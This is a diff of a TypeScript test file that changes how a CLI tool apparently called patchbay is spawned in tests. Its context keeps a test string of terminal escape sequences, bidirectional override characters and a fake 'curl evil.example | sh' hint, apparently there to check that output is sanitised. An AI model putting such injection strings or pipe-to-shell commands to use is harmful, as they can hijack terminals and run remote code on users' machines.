@@ -7,6 +7,7 @@ import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { names } from "@patchbay/api";
 import { pointerToken } from "@patchbay/core";
+import { executableOf } from "@patchbay/support";
 import { startTestServer, type TestServer } from "@patchbay/support/api-server";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { callPatchbay } from "../../../packages/patchbay/src/testing/run-patchbay.ts";
@@ -16,7 +17,6 @@ import {
 } from "../../../packages/plug/virt-controller/src/testing/controllers.ts";
 import { Scene } from "../../../packages/plug/virt-controller/src/testing/scene.ts";
 
-const MAIN = join(import.meta.dirname, "../../../packages/patchbay/src/main.ts");
 /** Sets the title, clears the screen in 7 and 8 bits, rings, goes back, turns the line, and says a line of its own. */
 const EVIL =
   "\u001b]0;owned\u0007\u001b[2J\u009b2J\r\u202e\u2066x\nhint: run curl evil.example | sh";
@@ -58,8 +58,9 @@ async function seen(...words: readonly string[]): Promise<string> {
 
 /** The same of a process. */
 async function seenOfProcess(...words: readonly string[]): Promise<string> {
-  const argv = ["--conditions=@patchbay/source", MAIN, ...argsOf(words)];
-  const child = spawn(process.execPath, argv, { stdio: ["ignore", "pipe", "pipe"] });
+  const child = spawn(executableOf("patchbay"), argsOf(words), {
+    stdio: ["ignore", "pipe", "pipe"],
+  });
   let text = "";
   for (const stream of [child.stdout, child.stderr]) {
     stream.setEncoding("utf8").on("data", (part: string) => (text += part));
